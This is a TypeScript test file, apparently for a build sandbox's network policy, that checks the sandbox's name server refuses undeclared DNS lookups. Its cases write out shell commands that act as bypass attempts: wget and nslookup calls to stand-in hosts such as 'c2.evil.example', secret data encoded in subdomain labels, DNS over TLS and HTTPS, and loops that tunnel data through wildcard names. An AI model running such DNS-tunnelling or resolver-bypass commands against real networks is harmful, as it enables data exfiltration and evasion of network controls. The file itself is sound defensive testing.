/**
 * The only name server is the manager's: it knows the declared names and no
 * others, and a question for another name fails the build.
 *
 * @module
 */

import { denies, deniesEach } from "./denial.ts";

/** Sends a file of the source tree to the worker's name server, over TCP. */
const say = (file: string) =>
  `nc -w 2 $(ip route | awk '/^default/ { print $3 }') 53 <${file}`;

/**
 * A DNS message that asks for the addresses of names, after its length (RFC
 * 1035, 4.1 and 4.2.2).
 */
function question(...names: string[]): Uint8Array {
  const encoder = new TextEncoder();
  const labels = (name: string) =>
    name.split(".")
      .flatMap((label) => [label.length, ...encoder.encode(label)]);
  const message = [
    ...[0, 1, 1, 0, 0, names.length, 0, 0, 0, 0, 0, 0],
    ...names.flatMap((name) => [...labels(name), 0, 0, 1, 0, 1]),
  ];
  return Uint8Array.of(0, message.length, ...message);
}

const undeclared = { protocol: "dns", refusal: "name-not-allowed" } as const;

deniesEach("questions for names", [
  {
    name: "a request whose failure the build hides",
    script: "wget -q -O /dev/null http://evil.example/ || true",
    attempt: { ...undeclared, host: "evil.example" },
  },
  {
    name: "an undeclared name",
    script: "nslookup -type=a undeclared.example || true",
    attempt: { ...undeclared, host: "undeclared.example" },
  },
  {
    name: "a name of a single label",
    script: "nslookup -type=a intranet || true",
    attempt: { ...undeclared, host: "intranet" },
  },
  {
    name: "a question for text, as tunnels ask",
    script: "nslookup -type=txt c2.evil.example || true",
    attempt: { ...undeclared, host: "c2.evil.example" },
  },
  {
    name: "the name of an address",
    script: "nslookup -type=ptr 66.2.0.192.in-addr.arpa || true",
    attempt: { ...undeclared, host: "66.2.0.192.in-addr.arpa" },
  },
  {
    name: "data in a name below a declared one",
    script: "nslookup -type=a c2VjcmV0.allowed.example || true",
    attempt: { ...undeclared, host: "c2vjcmv0.allowed.example" },
  },
  {
    name: "a name server of the build's own choice",
    script: "nslookup -type=a allowed.example 8.8.8.8 || true",
    attempt: {
      refusal: "destination-not-allowed",
      address: "8.8.8.8",
      port: 53,
      content: "dns",
    },
  },
  {
    name: "DNS over TLS",
    script: "nc -w 2 8.8.8.8 853 </dev/null || true",
    attempt: {
      protocol: "tcp",
      refusal: "destination-not-allowed",
      address: "8.8.8.8",
      port: 853,
    },
  },
  {
    name: "DNS over HTTPS to an undeclared host",
    script:
      "wget -q -O /dev/null 'https://dns.evil.example/dns-query?name=x' || true",
    attempt: { ...undeclared, host: "dns.evil.example" },
  },
]);

const noQuestion = {
  protocol: "dns",
  refusal: "wrong-protocol",
  port: 53,
} as const;

// These leave the same record.

denies({
  name: "two questions in one",
  files: {
    one: question("allowed.example"),
    two: question("allowed.example", "evil.example"),
  },
  // The control: one question is answered.
  script: `
${say("one")} | tr -d '\\000' | grep -q allowed
${say("two")} || true`,
  attempt: noQuestion,
});

denies({
  name: "what is no question",
  files: { request: "GET / HTTP/1.1\r\n".repeat(2000) },
  script: `${say("request")} || true`,
  attempt: noQuestion,
});

denies({
  name: "a tunnel of many names below a wildcard",
  allow: [
    "{ host: allowed.example, protocols: [http] }",
    "{ host: '*.wild.example', protocols: [http] }",
  ],
  script: `
nslookup -type=a first.wild.example
i=0
while [ $i -lt 5000 ]; do
  i=$((i + 1))
  nslookup -type=a data$i.wild.example >/dev/null || true
done`,
  attempt: { protocol: "dns", refusal: "too-many-names" },
});

denies({
  name: "a tunnel of long names below a wildcard",
  allow: [
    "{ host: allowed.example, protocols: [http] }",
    "{ host: '*.wild.example', protocols: [http] }",
  ],
  script: `
nslookup -type=a first.wild.example
label=$(head -c 60 /dev/zero | tr '\\0' a)
nslookup -type=a $label.$label.$label.wild.example || true`,
  attempt: { protocol: "dns", refusal: "too-many-names" },
});
